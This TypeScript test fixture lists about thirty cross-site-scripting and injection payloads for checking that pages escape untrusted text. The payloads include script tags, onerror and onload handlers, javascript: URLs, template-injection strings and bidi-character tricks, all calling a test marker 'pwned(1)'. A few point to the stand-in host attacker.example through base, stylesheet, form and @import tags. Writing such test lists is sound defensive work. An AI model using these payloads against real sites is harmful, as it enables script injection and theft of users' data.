/**
 * Texts that become script, markup or another page where a page writes them as anything but text. Whatever of them
 * runs calls `pwned`, which the tests listen for, or opens a dialog.
 */

const run = "pwned(1)";

export const scriptPayloads: readonly string[] = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `"><img src=x onerror=${run}>`,
  `'><img src=x onerror=${run}>`,
  `" autofocus onfocus=${run} x="`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<a href="javascript:${run}" id=go>go</a>`,
  `javascript:${run}`,
  `JaVaScRiPt:${run}//`,
  `data:text/html,<script>${run}</script>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<body onload=${run}>`,
  `<math><mtext><style><img src=x onerror=${run}></style></mtext></math>`,
  `<template><img src=x onerror=${run}></template>`,
  `<base href="https://attacker.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href="https://attacker.example/x.css">`,
  `<form action="https://attacker.example/"><button autofocus>go</button></form>`,
  `<style>@import "https://attacker.example/x.css";</style>`,
  `{{constructor.constructor('${run}')()}}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is a payload for whoever expands templates.
  "${pwned(1)}",
  `<!--><img src=x onerror=${run}>-->`,
  `\u202E<img src=x onerror=${run}>\u2066`,
];
